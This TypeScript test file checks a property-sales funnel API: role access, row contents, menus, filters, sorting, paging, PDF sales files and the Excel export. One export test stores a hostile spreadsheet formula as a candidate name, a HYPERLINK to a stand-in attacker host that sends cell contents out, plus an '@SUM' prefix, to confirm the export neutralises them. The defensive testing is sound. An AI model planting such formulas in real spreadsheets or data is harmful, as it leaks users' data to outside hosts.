// Over 400 lines: the funnel routes' suites (access, rows, menus, filters, sort, PDF, export) share one sale world.
import {
  type ApplicationRow,
  type ApplicationsPage,
  EXPIRED_RESERVATION_TEXT,
  type FunnelRow,
  MESSAGES,
  rowTaskSchema,
  XLSX_FORMATS,
} from '@promovente/shared';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Db } from '../../db/client.js';
import { applications, buildings, candidacies, candidates, files, lots, promotions, tasks } from '../../db/schema/index.js';
import { createTestContext, type TestContext } from '../../test/harness.js';
import { pdfFonts, pdfText, UNICODE_NAME } from '../../test/pdf-text.js';
import { isLiveFormula, loadWorkbook, readXlsx } from '../../test/xlsx-reader.js';
import { addApplication, candidateAccount, createCandidacyRow, salesDesk } from '../candidacies/candidacies.fixtures.js';

let ctx: TestContext;
beforeAll(async () => {
  ctx = await createTestContext();
});
afterAll(() => ctx.close());
beforeEach(() => ctx.reset());

type Headers = Record<string, string>;
const get = (url: string, headers: Headers) => ctx.app.inject({ method: 'GET', url, headers });
const list = async (query: string, headers: Headers) => {
  const response = await get(`/api/applications${query}`, headers);
  expect(response.statusCode, response.body).toBe(200);
  return response.json() as ApplicationsPage;
};
const references = (page: ApplicationsPage) => page.data.map((r) => r.lot.reference);

let lotCounter = 0;
/** Main lots in a building of their own, with distinct references, floors, rooms and prices. */
const addLots = async (
  db: Db,
  promotionId: number,
  specs: { price: number; floorId?: number; rooms?: number; area?: number; reference?: string }[],
  buildingTitle = 'Bâtiment B',
) => {
  const [building] = await db.insert(buildings).values({ promotionId, title: buildingTitle, city: 'Rolle' }).returning();
  return db
    .insert(lots)
    .values(
      specs.map((spec) => {
        lotCounter += 1;
        return {
          promotionId,
          buildingId: building.id,
          lotTypeId: 5,
          floorId: spec.floorId ?? 4,
          reference: spec.reference ?? `B-${String(lotCounter).padStart(3, '0')}`,
          nbRooms: spec.rooms ?? 3.5,
          areaHab: spec.area ?? 90,
          rawPrice: spec.price,
        };
      }),
    )
    .returning();
};

const addTask = (db: Db, values: Partial<typeof tasks.$inferInsert> & { promotionId: number; applicationId: number }) =>
  db
    .insert(tasks)
    .values({ title: 'Rappeler le notaire', endAt: new Date(Date.now() + 86_400_000), ...values })
    .returning()
    .then(([row]) => row);

/** The sales desk of the candidacies tests plus one application per stage, each on its own lot. */
const funnel = async () => {
  const db = ctx.database.db;
  const desk = await salesDesk(ctx.app, db);
  const pid = desk.promotion.id;
  const [l0, l1, l2, l3] = await addLots(db, pid, [
    { price: 500_000, floorId: 2, rooms: 2.5, area: 60, reference: 'B-001' },
    { price: 800_000, floorId: 4, rooms: 3.5, area: 85, reference: 'B-002' },
    { price: 1_100_000, floorId: 14, rooms: 4.5, area: 120, reference: 'B-003' },
    { price: 650_000, floorId: 1, rooms: 3.5, area: 70, reference: 'B-004' },
  ]);
  const alice = await createCandidacyRow(db, pid, {
    brokerId: desk.broker.id,
    agencyId: desk.leman.id,
    candidate: { firstName: 'Alice', lastName: 'Favre' },
  });
  const bruno = await createCandidacyRow(db, pid, {
    brokerId: desk.colleague.id,
    agencyId: desk.leman.id,
    candidate: { firstName: 'Bruno', lastName: 'Zahnd' },
  });
  const chloe = await createCandidacyRow(db, pid, {
    brokerId: desk.rival.id,
    agencyId: desk.jura.id,
    candidate: { firstName: 'Chloé', lastName: 'Monnier' },
  });
  const david = await createCandidacyRow(db, pid, {
    brokerId: desk.broker.id,
    agencyId: desk.leman.id,
    candidate: { firstName: 'David', lastName: 'Aubert' },
  });
  const optioned = await addApplication(db, { promotionId: pid, lotId: l0.id, candidacy1Id: alice.candidacy.id, priority: 2 });
  const reserved = await addApplication(db, {
    promotionId: pid,
    lotId: l1.id,
    candidacy1Id: bruno.candidacy.id,
    candidacy2Id: alice.candidacy.id,
    status: 1,
    priority: 1,
    reservationSentAt: new Date('2026-03-01T09:00:00Z'),
    reservationDepositConfirmedAt: new Date('2026-03-10T09:00:00Z'),
    statusFr: 'Validé le 05/03/2026 10:00',
    statusFrChecked: true,
    statusAc: 'Reçu le 10/03/2026 11:00',
    statusAcChecked: true,
  });
  const promise = await addApplication(db, {
    promotionId: pid,
    lotId: l2.id,
    candidacy1Id: chloe.candidacy.id,
    status: 2,
    priority: 1,
    negociatedPrice: 1_050_000,
    statusFr: 'Validé le 01/02/2026 10:00',
    statusFrChecked: true,
  });
  const sold = await addApplication(db, { promotionId: pid, lotId: l3.id, candidacy1Id: david.candidacy.id, status: 3, priority: 1 });
  // Not in the funnel: deleted, closed, and another promotion's.
  await addApplication(db, { promotionId: pid, lotId: l0.id, candidacy1Id: bruno.candidacy.id, hidden: true });
  await addApplication(db, { promotionId: pid, lotId: l3.id, candidacy1Id: chloe.candidacy.id, closedAt: new Date() });
  const [otherLot] = await addLots(db, desk.other.id, [{ price: 700_000, reference: 'M-001' }], 'Bâtiment M');
  const stranger = await createCandidacyRow(db, desk.other.id, { candidate: { firstName: 'Eve', lastName: 'Autre' } });
  const foreign = await addApplication(db, { promotionId: desk.other.id, lotId: otherLot.id, candidacy1Id: stranger.candidacy.id });
  return { ...desk, db, lots: [l0, l1, l2, l3], alice, bruno, chloe, david, optioned, reserved, promise, sold, foreign };
};

describe('GET /applications: who may call it (docs/product/access.md#route-table)', () => {
  it('is for brokers, promoters, notaries, bankers and architects; candidates and others are refused', async () => {
    const f = await funnel();
    for (const user of [f.broker, f.promoter, f.notary, f.banker, f.architect]) {
      const response = await get('/api/applications', await f.token(user));
      expect(response.statusCode, user.type).toBe(200);
      expect((response.json() as ApplicationsPage).total).toBe(4);
    }
    const account = await candidateAccount(f.db, f.promotion.id, f.alice.candidate);
    const refused = await get('/api/applications', await f.token(account));
    expect(refused.statusCode).toBe(403);
    expect(refused.json().message).toBe(MESSAGES.accessDenied);
    expect((await get(`/api/applications/${f.optioned.id}`, await f.token(account))).statusCode).toBe(403);
    expect((await ctx.app.inject({ method: 'GET', url: '/api/applications' })).statusCode).toBe(401);
  });

  it("answers 404 for another promotion's list and rows", async () => {
    const f = await funnel();
    const headers = await f.token(f.broker);
    const response = await get(`/api/applications?promotion=${f.other.id}`, headers);
    expect(response.statusCode).toBe(404);
    expect(response.json().message).toBe(MESSAGES.pageNotFound);
    expect((await get(`/api/applications/${f.foreign.id}`, headers)).statusCode).toBe(404);
    expect((await get('/api/applications/999999', headers)).statusCode).toBe(404);
    const outsider = await f.token(f.outsider);
    expect((await get(`/api/applications/${f.optioned.id}`, outsider)).statusCode).toBe(404);
    expect((await get(`/api/applications/${f.foreign.id}`, outsider)).statusCode).toBe(200);
  });

  it('validates the query in French', async () => {
    const f = await funnel();
    const headers = await f.token(f.broker);
    expect((await get('/api/applications?status=0,4', headers)).json().message).toBe('Statut invalide');
    const sort = await get('/api/applications?orderBy=budget', headers);
    expect(sort.statusCode).toBe(400);
    expect(sort.json().message).toBe('Tri invalide');
    expect((await get('/api/applications?order=up', headers)).json().message).toBe('Ordre invalide');
  });
});

describe('GET /applications: the rows (docs/product/funnel.md#screens and docs/product/entities.md#application)', () => {
  it("lists the promotion's live applications only, most advanced stage first", async () => {
    const f = await funnel();
    const page = await list('', await f.token(f.broker));
    expect(page).toMatchObject({ total: 4, current_page: 1, last_page: 1, from: 1, to: 4, multi_agency: false, has_notary: true });
    expect(page.status_counts).toEqual({ '0': 1, '1': 1, '2': 1, '3': 1 });
    expect(references(page)).toEqual(['B-004', 'B-003', 'B-002', 'B-001']);
  });

  it('carries what the columns, the menu and À faire show; a modal reads the whole row by its id (issue 20, lean pages)', async () => {
    const f = await funnel();
    const headers = await f.token(f.broker);
    const page = await list('', headers);
    const reserved = page.data.find((r) => r.id === f.reserved.id);
    expect(reserved).toEqual({
      id: f.reserved.id,
      public_id: f.reserved.publicId,
      status: 1,
      status_text: 'Réservé',
      priority: 1,
      deadline: null,
      deadline_is_in_less_than_one_day: false,
      is_over_deadline: false,
      negociated_price: null,
      broker: { id: f.colleague.id, full_name: 'Anne Collègue', profile_picture: null },
      candidacy1: { id: f.bruno.candidacy.id, candidate: { id: f.bruno.candidate.id, full_name: 'Bruno Zahnd' } },
      candidacy2: { id: f.alice.candidacy.id, candidate: { id: f.alice.candidate.id, full_name: 'Alice Favre' } },
      lot: {
        public_id: f.lots[1].publicId,
        reference: 'B-002',
        building: 'Bâtiment B',
        nb_rooms: 3.5,
        area_hab: 85,
        floor: '1er',
        total_price: 800_000,
      },
      status_FR: 'Validé le 05/03/2026 10:00',
      status_FR_checked: true,
      status_AC: expect.any(String),
      status_AC_checked: true,
      status_FIN: null,
      status_FIN_checked: false,
      status_SIGNPDV: null,
      status_SIGNPDV_checked: false,
      status_SIGN: null,
      status_SIGN_checked: false,
      tasks: [],
      tasks_count: 0,
      actions: expect.arrayContaining(['history', 'addTask']),
    });
    const promise = page.data.find((r) => r.id === f.promise.id);
    expect(promise).toMatchObject({ negociated_price: 1_050_000, candidacy2: null, lot: { floor: 'Attique' } });
    // What the modals read beyond the row: the whole application, by its id.
    const whole = (await get(`/api/applications/${f.reserved.id}`, headers)).json().data as ApplicationRow;
    expect(whole).toMatchObject({
      promotion_id: f.promotion.id,
      candidacy1: {
        agency_id: f.leman.id,
        candidate: { full_name: 'Bruno Zahnd', email: f.bruno.candidate.email, has_account: false },
      },
      lot: { id: f.lots[1].id, price: 800_000, children: 0, best_available_priority: 2 },
      reservation_sent_at: '2026-03-01T09:00:00.000Z',
      reservation_deposit_confirmed_at: '2026-03-10T09:00:00.000Z',
    });
  });

  it("shows in 'À faire' three open tasks, soonest first, and how many are open", async () => {
    const f = await funnel();
    const day = 86_400_000;
    for (const [title, inDays] of [
      ['Relancer le client', 3],
      ['Appeler la banque', 1],
      ['Envoyer le plan', 2],
      ['Préparer la visite', 4],
    ] as const) {
      await addTask(f.db, { promotionId: f.promotion.id, applicationId: f.optioned.id, title, endAt: new Date(Date.now() + inDays * day) });
    }
    await addTask(f.db, { promotionId: f.promotion.id, applicationId: f.optioned.id, title: 'Déjà fait', doneAt: new Date() });
    const [row] = (await list(`?application=${f.optioned.id}`, await f.token(f.broker))).data;
    expect(row.tasks.map((t) => t.title)).toEqual(['Appeler la banque', 'Envoyer le plan', 'Relancer le client']);
    // The row's task is lean (RowTask, issue 20), exactly: its dialog reads the whole task.
    expect(rowTaskSchema.strict().parse(row.tasks[0])).toMatchObject({ time_status: 'next', done_at: null, automatic_end: false });
    expect(row.tasks_count).toBe(4);
  });

  it('gives priority 1 of a multi-agency option its reservation deadline (docs/sales-process.md#3-positions-and-4-the-application-lifecycle-built)', async () => {
    const f = await funnel();
    await f.db.update(promotions).set({ multiAgency: true, reservationTimeout: 5 }).where(eq(promotions.id, f.promotion.id));
    const hour = 3_600_000;
    const setSince = (id: number, since: Date) =>
      f.db.update(applications).set({ priority: 1, lastPriorityChange: since }).where(eq(applications.id, id));
    await setSince(f.optioned.id, new Date(Date.now() - 5 * 24 * hour + 3 * hour));
    const headers = await f.token(f.broker);
    const page = await list('', headers);
    expect(page.multi_agency).toBe(true);
    const soon = page.data.find((r) => r.id === f.optioned.id);
    expect(soon).toMatchObject({ deadline_is_in_less_than_one_day: true, is_over_deadline: false });
    expect(new Date(soon?.deadline ?? 0).getTime()).toBeGreaterThan(Date.now());
    await setSince(f.optioned.id, new Date(Date.now() - 6 * 24 * hour));
    const expired = (await list('', headers)).data.find((r) => r.id === f.optioned.id);
    expect(expired).toMatchObject({ deadline_is_in_less_than_one_day: false, is_over_deadline: true });
    expect(EXPIRED_RESERVATION_TEXT).toContain('expirée');
  });

  it('gives no deadline, warning or expired text to a reserved, promised or sold lot, however old its priority 1', async () => {
    const f = await funnel();
    await f.db.update(promotions).set({ multiAgency: true, reservationTimeout: 5 }).where(eq(promotions.id, f.promotion.id));
    const longAgo = new Date(Date.now() - 30 * 86_400_000);
    for (const id of [f.reserved.id, f.promise.id, f.sold.id]) {
      await f.db.update(applications).set({ priority: 1, lastPriorityChange: longAgo }).where(eq(applications.id, id));
    }
    const page = await list('', await f.token(f.broker));
    const signed = page.data.filter((r) => r.status > 0);
    expect(signed.map((r) => r.status_text).sort()).toEqual(['Promesse de vente', 'Réservé', 'Vendu']);
    for (const row of signed) {
      expect(row).toMatchObject({ deadline: null, deadline_is_in_less_than_one_day: false, is_over_deadline: false });
    }
  });

  it('answers one row by id, and 404 for a deleted application', async () => {
    const f = await funnel();
    const headers = await f.token(f.broker);
    const response = await get(`/api/applications/${f.promise.id}`, headers);
    expect(response.statusCode).toBe(200);
    expect(response.json().data).toMatchObject({ id: f.promise.id, lot: { reference: 'B-003' }, status_text: 'Promesse de vente' });
    await f.db.update(applications).set({ hidden: true }).where(eq(applications.id, f.promise.id));
    expect((await get(`/api/applications/${f.promise.id}`, headers)).statusCode).toBe(404);
  });
});

describe('GET /applications: the menu of each row (docs/product/funnel.md#actions-on-an-application)', () => {
  it('offers the broker the actions the rules allow at the row stage', async () => {
    const f = await funnel();
    const page = await list('', await f.token(f.broker));
    const actionsOf = (id: number) => page.data.find((r) => r.id === id)?.actions ?? [];
    expect(actionsOf(f.optioned.id)).toContain('sendReservationForm');
    expect(actionsOf(f.optioned.id)).not.toContain('resendReservationForm');
    expect(actionsOf(f.optioned.id)).toContain('addCandidacy');
    expect(actionsOf(f.reserved.id)).toEqual(
      expect.arrayContaining(['resendReservationForm', 'ClientSolvent', 'scheduleAgreement', 'detachCandidacy']),
    );
    expect(actionsOf(f.reserved.id)).not.toContain('sendReservationForm');
    // Another agency's sale: no application action, no candidate edit (docs/sales-process.md#1-tenancy-and-access-built); the rest stays.
    expect(actionsOf(f.promise.id)).not.toContain('planActOfPurchase');
    expect(actionsOf(f.promise.id)).toEqual(expect.arrayContaining(['history', 'downloadPdf', 'comments']));
    expect(actionsOf(f.optioned.id)).toContain('editCandidate');
    expect(actionsOf(f.promise.id)).not.toContain('editCandidate');
  });

  it('offers the other roles their own actions; architects see no first column', async () => {
    const f = await funnel();
    await addTask(f.db, {
      promotionId: f.promotion.id,
      applicationId: f.reserved.id,
      title: 'Vérifier la solvabilité du client',
      kind: 'verify_solvency',
      automaticEnd: true,
    });
    const rowOf = async (user: { email: string }) =>
      (await list(`?application=${f.reserved.id}`, await f.token(user))).data[0] as FunnelRow;
    expect((await rowOf(f.banker)).actions).toEqual([
      'ClientSolvent',
      'clientNonSolvent',
      'downloadPdf',
      'tasksHistory',
      'comments',
      'files',
    ]);
    // The open task that offers them (its kind) is the whole application's, which a modal reads.
    const whole = (await get(`/api/applications/${f.reserved.id}`, await f.token(f.banker))).json().data as ApplicationRow;
    expect(whole.open_task_kinds).toEqual(['verify_solvency']);
    expect((await rowOf(f.architect)).actions).toEqual(['files']);
    expect((await rowOf(f.promoter)).actions).toEqual(['downloadPdf', 'tasksHistory', 'comments', 'files']);
    expect((await rowOf(f.notary)).actions).toContain('downloadPdf');
    expect((await rowOf(f.notary)).actions).not.toContain('negotiatePrice');
  });

  it('hides the reservation form actions on rows where the queried candidacy is the partner', async () => {
    const f = await funnel();
    const headers = await f.token(f.broker);
    const page = await list(`?candidacy=${f.alice.candidacy.id}`, headers);
    expect(page.data.map((r) => r.id).sort()).toEqual([f.optioned.id, f.reserved.id].sort());
    const asPartner = page.data.find((r) => r.id === f.reserved.id);
    expect(asPartner?.actions).not.toContain('resendReservationForm');
    const asMain = page.data.find((r) => r.id === f.optioned.id);
    expect(asMain?.actions).toContain('sendReservationForm');
    const plain = await list(`?application=${f.reserved.id}`, headers);
    expect(plain.data[0].actions).toContain('resendReservationForm');
  });
});

describe('GET /applications: filters (docs/product/layout.md#filter-bar and docs/product/funnel.md#screens)', () => {
  it('filters by the stage arrows and keeps counting every stage', async () => {
    const f = await funnel();
    const headers = await f.token(f.broker);
    const page = await list('?status=1,2', headers);
    expect(references(page)).toEqual(['B-003', 'B-002']);
    expect(page.total).toBe(2);
    expect(page.status_counts).toEqual({ '0': 1, '1': 1, '2': 1, '3': 1 });
    expect(references(await list('?status=0', headers))).toEqual(['B-001']);
  });

  it("filters by broker, by 'Mon agence', by building, floor, rooms and price", async () => {
    const f = await funnel();
    const headers = await f.token(f.broker);
    expect(references(await list(`?broker=${f.broker.id}`, headers))).toEqual(['B-004', 'B-001']);
    expect(references(await list('?showMyAgency=1', headers))).toEqual(['B-004', 'B-002', 'B-001']);
    expect(references(await list('?showMyAgency=1', await f.token(f.rival)))).toEqual(['B-003']);
    expect((await list('?showMyAgency=1', await f.token(f.notary))).total).toBe(0);
    const [building] = await f.db.select().from(buildings).where(eq(buildings.title, 'Bâtiment B'));
    expect((await list(`?buildings=${building.id}`, headers)).total).toBe(4);
    // A building that is not the promotion's answers 404 like a path id (docs/security.md).
    expect((await get(`/api/applications?buildings=${f.lots[0].buildingId + 1000}`, headers)).statusCode).toBe(404);
    expect(references(await list('?floors=2,14', headers))).toEqual(['B-003', 'B-001']);
    expect(references(await list('?nb_rooms=3.5', headers))).toEqual(['B-004', 'B-002']);
    expect(references(await list('?price_min=600000&price_max=900000', headers))).toEqual(['B-004', 'B-002']);
  });

  it('searches by candidate, partner and lot reference, with LIKE characters taken literally', async () => {
    const f = await funnel();
    const headers = await f.token(f.broker);
    const search = async (text: string) => references(await list(`?search=${encodeURIComponent(text)}`, headers));
    expect(await search('zahnd')).toEqual(['B-002']);
    expect(await search('Alice Fav')).toEqual(['B-002', 'B-001']);
    expect(await search('b-003')).toEqual(['B-003']);
    expect(await search('%')).toEqual([]);
  });

  it('narrows to a candidacy (main or partner), an application, a candidate or a lot', async () => {
    const f = await funnel();
    const headers = await f.token(f.broker);
    expect(references(await list(`?candidacy=${f.bruno.candidacy.id}`, headers))).toEqual(['B-002']);
    expect(references(await list(`?application=${f.sold.id}`, headers))).toEqual(['B-004']);
    expect(references(await list(`?candidat=${f.alice.candidate.id}`, headers))).toEqual(['B-002', 'B-001']);
    expect(references(await list(`?lot=${f.lots[2].publicId}`, headers))).toEqual(['B-003']);
    // An id of another promotion, or that does not exist, answers 404 like a path id.
    expect((await get('/api/applications?lot=not-a-uuid', headers)).statusCode).toBe(404);
    expect((await get(`/api/applications?application=${f.foreign.id}`, headers)).statusCode).toBe(404);
  });

  it('keeps only rows with a late open task when asked (late=1 or onlyLateTasks=1)', async () => {
    const f = await funnel();
    const headers = await f.token(f.broker);
    const past = new Date(Date.now() - 3_600_000);
    await addTask(f.db, { promotionId: f.promotion.id, applicationId: f.optioned.id, endAt: past });
    await addTask(f.db, { promotionId: f.promotion.id, applicationId: f.reserved.id, endAt: past, doneAt: new Date() });
    await addTask(f.db, { promotionId: f.promotion.id, applicationId: f.promise.id });
    expect(references(await list('?late=1', headers))).toEqual(['B-001']);
    expect(references(await list('?onlyLateTasks=1', headers))).toEqual(['B-001']);
    expect((await list('?late=0', headers)).total).toBe(4);
  });
});

describe('GET /applications: sort and pages (docs/product/funnel.md#sort-and-filter)', () => {
  it('sorts by every column of the table, both ways', async () => {
    const f = await funnel();
    const headers = await f.token(f.broker);
    const sorted = async (orderBy: string, order: 'asc' | 'desc') => references(await list(`?orderBy=${orderBy}&order=${order}`, headers));
    expect(await sorted('price', 'desc')).toEqual(['B-003', 'B-002', 'B-004', 'B-001']);
    expect(await sorted('price', 'asc')).toEqual(['B-001', 'B-004', 'B-002', 'B-003']);
    expect(await sorted('candidate', 'asc')).toEqual(['B-001', 'B-002', 'B-003', 'B-004']);
    expect(await sorted('floor', 'desc')).toEqual(['B-003', 'B-002', 'B-001', 'B-004']);
    expect(await sorted('area', 'asc')).toEqual(['B-001', 'B-004', 'B-002', 'B-003']);
    expect(await sorted('status', 'asc')).toEqual(['B-001', 'B-002', 'B-003', 'B-004']);
    expect(await sorted('lot', 'asc')).toEqual(['B-001', 'B-002', 'B-003', 'B-004']);
    expect((await sorted('priority', 'desc'))[0]).toBe('B-001');
    expect((await sorted('rooms', 'desc'))[0]).toBe('B-003');
    expect((await sorted('building', 'asc')).length).toBe(4);
    // Milestones: checked first when descending, then the rows with a text.
    expect((await sorted('status_FR', 'desc')).slice(0, 2).sort()).toEqual(['B-002', 'B-003']);
    expect((await sorted('status_AC', 'desc'))[0]).toBe('B-002');
    for (const orderBy of ['status_FIN', 'status_SIGNPDV', 'status_SIGN']) expect((await sorted(orderBy, 'asc')).length).toBe(4);
  });

  it('pages by 50 in SQL; a page past the last answers the last', async () => {
    const db = ctx.database.db;
    const desk = await salesDesk(ctx.app, db);
    const many = await addLots(
      db,
      desk.promotion.id,
      Array.from({ length: 55 }, (_, i) => ({ price: 400_000 + i * 1000 })),
    );
    const { candidacy } = await createCandidacyRow(db, desk.promotion.id, { brokerId: desk.broker.id });
    for (const lot of many) await addApplication(db, { promotionId: desk.promotion.id, lotId: lot.id, candidacy1Id: candidacy.id });
    const headers = await desk.token(desk.broker);
    const first = await list('?orderBy=price&order=asc', headers);
    expect(first).toMatchObject({ total: 55, current_page: 1, last_page: 2, from: 1, to: 50 });
    expect(first.data).toHaveLength(50);
    const second = await list('?orderBy=price&order=asc&page=2', headers);
    expect(second).toMatchObject({ current_page: 2, from: 51, to: 55 });
    expect(second.data[0].lot.total_price).toBe(450_000);
    expect((await list('?page=9', headers)).current_page).toBe(2);
  });
});

describe('GET /applications/:publicId/pdf (docs/product/calls.md#direct-application-calls)', () => {
  it('answers a signed URL of the sales file, a real PDF naming the lot and the candidates in any alphabet', async () => {
    const f = await funnel();
    const [first, last] = UNICODE_NAME.split(' ');
    await f.db.update(candidates).set({ firstName: first, lastName: last }).where(eq(candidates.id, f.alice.candidate.id));
    await f.db
      .update(candidacies)
      .set({ mortgageAmount: 600_000, mortgageBankName: 'Banque Cantonale Vaudoise', secondPillarAmount: 80_000 })
      .where(eq(candidacies.id, f.bruno.candidacy.id));
    await f.db
      .update(applications)
      .set({
        negociatedPrice: 780_000,
        promisePlannedAt: new Date('2026-04-15T08:00:00Z'),
        actOfPurchaseAt: new Date('2027-01-14T09:00:00Z'),
      })
      .where(eq(applications.id, f.reserved.id));
    await f.db.update(lots).set({ areaHab: 69.5, nbRooms: 3.5 }).where(eq(lots.id, f.reserved.lotId));
    await addLots(f.db, f.promotion.id, [{ price: 30_000, reference: 'P-12' }]).then(([parking]) =>
      f.db.update(lots).set({ parentId: f.lots[1].id, lotTypeId: 3 }).where(eq(lots.id, parking.id)),
    );
    for (const user of [f.broker, f.notary, f.banker, f.promoter]) {
      const response = await get(`/api/applications/${f.reserved.publicId}/pdf`, await f.token(user));
      expect(response.statusCode, user.type).toBe(200);
      expect(response.json().data).toMatch(/^\/api\/files\/[0-9a-f-]+\/download\?/);
    }
    const { data: url } = (await get(`/api/applications/${f.reserved.publicId}/pdf`, await f.token(f.broker))).json();
    const file = await ctx.app.inject({ method: 'GET', url });
    expect(file.statusCode).toBe(200);
    expect(file.headers['content-type']).toContain('application/pdf');
    const pdf = file.rawPayload;
    expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
    const text = pdfText(pdf);
    expect(text).toContain('Lot B-002');
    expect(text).toContain('Les Hauts de Rolle');
    expect(text).toContain('Bruno Zahnd');
    expect(text).toContain(UNICODE_NAME);
    for (const font of pdfFonts(pdf)) expect(font, font.name).toMatchObject({ embedded: true, unicode: true });
    expect(text).toContain("780'000 CHF");
    expect(text).toContain("830'000 CHF");
    expect(text).toContain('P-12');
    expect(text).toContain('Banque Cantonale Vaudoise');
    expect(text).toContain('Validé le 05/03/2026 10:00');
    expect(text).toContain('15/04/2026 10:00');
    // Swiss time in winter too (UTC+1): 09:00 UTC on 14 January is 10:00, labelled as Swiss time.
    expect(text).toContain('14/01/2027 10:00');
    expect(text).toContain('Dates (heure suisse)');
    expect(text).toMatch(/Généré le \d{2}\/\d{2}\/\d{4} \d{2}:\d{2} \(heure suisse\)/);
    // The numbers as on the screens: decimal comma, trailing zeros dropped.
    expect(text).toContain('69,5 m²');
    expect(text).toMatch(/^3,5$/m);
    expect(text).toContain('Anne Collègue');
    const [stored] = await f.db.select().from(files).where(eq(files.mime, 'application/pdf')).limit(1);
    expect(stored).toMatchObject({ owner: 'export', name: 'Dossier de vente - B-002.pdf', promotionId: f.promotion.id });
  });

  it('is refused to architects and candidates, and answers 404 outside the user promotions', async () => {
    const f = await funnel();
    expect((await get(`/api/applications/${f.reserved.publicId}/pdf`, await f.token(f.architect))).statusCode).toBe(403);
    const account = await candidateAccount(f.db, f.promotion.id, f.alice.candidate);
    expect((await get(`/api/applications/${f.reserved.publicId}/pdf`, await f.token(account))).statusCode).toBe(403);
    const headers = await f.token(f.broker);
    expect((await get(`/api/applications/${f.foreign.publicId}/pdf`, headers)).statusCode).toBe(404);
    expect((await get('/api/applications/00000000-0000-4000-8000-000000000000/pdf', headers)).statusCode).toBe(404);
    expect((await get('/api/applications/12/pdf', headers)).statusCode).toBe(400);
  });
});

describe("GET /applications/download: 'Exporter' (docs/product/funnel.md#screens: brokers only)", () => {
  it('exports every filtered row, all pages, as an .xlsx behind a signed URL', async () => {
    const f = await funnel();
    const headers = await f.token(f.broker);
    const query = 'status=1,2,3&orderBy=price&order=desc';
    const listed = await list(`?${query}`, headers);
    const response = await get(`/api/applications/download?${query}`, headers);
    expect(response.statusCode).toBe(200);
    const { url } = response.json().data;
    expect(url).toMatch(/^\/api\/files\/[0-9a-f-]+\/download\?/);
    const file = await ctx.app.inject({ method: 'GET', url });
    expect(file.statusCode).toBe(200);
    expect(file.headers['content-type']).toContain('spreadsheetml');
    const workbook = await loadWorkbook(file.rawPayload);
    const sheet = workbook.getWorksheet('Tunnel de vente');
    expect(sheet?.rowCount).toBe(1 + listed.total);
    expect(sheet?.getRow(1).values).toEqual(expect.arrayContaining(['Client', 'Statut', 'Lot', 'FR', 'SIGN PdV', 'Tâches ouvertes']));
    expect(sheet?.getRow(2).getCell(7).value).toBe('B-003');
    expect(sheet?.getRow(2).getCell(3).value).toBe('Chloé Monnier');
    expect(sheet?.getRow(2).getCell(14).value).toEqual(new Date('2026-02-01T10:00:00Z'));
    expect(sheet?.getRow(3).getCell(4).value).toBe('Alice Favre');
    expect(sheet?.getRow(2).getCell(11).numFmt).toBe(XLSX_FORMATS.amount);
    expect(typeof sheet?.getRow(2).getCell(8).value).toBe('number');
    // 'General' is Excel's default format: the file leaves it unwritten.
    expect(sheet?.getRow(2).getCell(8).numFmt ?? XLSX_FORMATS.decimal).toBe('General');
  });

  it("writes milestone dates as real dates (Swiss time, shown as on screen), 'Priorité' as a number and every text inert, read back by openpyxl and Gnumeric", async () => {
    const f = await funnel();
    const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Voir")';
    await f.db.update(candidates).set({ firstName: hostile }).where(eq(candidates.id, f.david.candidate.id));
    await f.db.update(applications).set({ priority: 9 }).where(eq(applications.id, f.optioned.id));
    await f.db
      .update(applications)
      .set({ statusSignpdv: '@SUM(1) 05/03/2026', statusSign: 'Prévue le 14/01/2027' })
      .where(eq(applications.id, f.promise.id));
    const headers = await f.token(f.broker);
    const { url } = (await get('/api/applications/download?orderBy=price&order=asc', headers)).json().data;
    const read = readXlsx((await ctx.app.inject({ method: 'GET', url })).rawPayload);

    expect(read.formulas).toEqual([]);
    expect(read.csv.flat().filter(isLiveFormula)).toEqual([]);
    const column = (label: string) => read.cells[0].findIndex((cell) => cell.value === label);
    const byLot = (reference: string) => read.cells.findIndex((row) => row[column('Lot')].value === reference);
    const [priority, client, fr, ac, signpdv, sign] = ['Priorité', 'Client', 'FR', 'AC', 'SIGN PdV', 'SIGN'].map(column);

    // 'Priorité': numbers 1, 2, 3, and 9 shown 'NP'.
    expect(read.cells[byLot('B-001')][priority]).toMatchObject({ type: 'n', value: 9 });
    expect(read.csv[byLot('B-001')][priority]).toBe('NP');
    expect(read.cells[byLot('B-002')][priority]).toMatchObject({ type: 'n', value: 1 });
    expect(read.csv[byLot('B-002')][priority]).toBe('1');

    // Milestones: date cells in Swiss wall time, their words kept by the format.
    expect(read.cells[byLot('B-002')][fr]).toMatchObject({ isDate: true, value: '2026-03-05T10:00:00' });
    expect(read.csv[byLot('B-002')][fr]).toBe('✓ Validé le 05/03/2026 10:00');
    expect(read.cells[byLot('B-002')][ac]).toMatchObject({ isDate: true, value: '2026-03-10T11:00:00' });
    expect(read.csv[byLot('B-002')][ac]).toBe('✓ Reçu le 10/03/2026 11:00');
    expect(read.cells[byLot('B-003')][sign]).toMatchObject({ isDate: true, value: '2027-01-14T00:00:00' });
    expect(read.csv[byLot('B-003')][sign]).toBe('Prévue le 14/01/2027');
    // Words a spreadsheet would run stay inert, once saved as CSV too.
    expect(read.cells[byLot('B-003')][signpdv]).toMatchObject({ isDate: true });
    expect(read.csv[byLot('B-003')][signpdv]).toBe("'@SUM(1) 05/03/2026");

    // A hostile name: text with its apostrophe, in the file and in the CSV.
    expect(read.cells[byLot('B-004')][client]).toMatchObject({ type: 's', value: `'${hostile} Aubert` });
    expect(read.csv[byLot('B-004')][client]).toBe(`'${hostile} Aubert`);
  });

  it('is for brokers only, in their promotions', async () => {
    const f = await funnel();
    for (const user of [f.promoter, f.notary, f.banker, f.architect]) {
      expect((await get('/api/applications/download', await f.token(user))).statusCode).toBe(403);
    }
    expect((await get(`/api/applications/download?promotion=${f.other.id}`, await f.token(f.broker))).statusCode).toBe(404);
  });
});
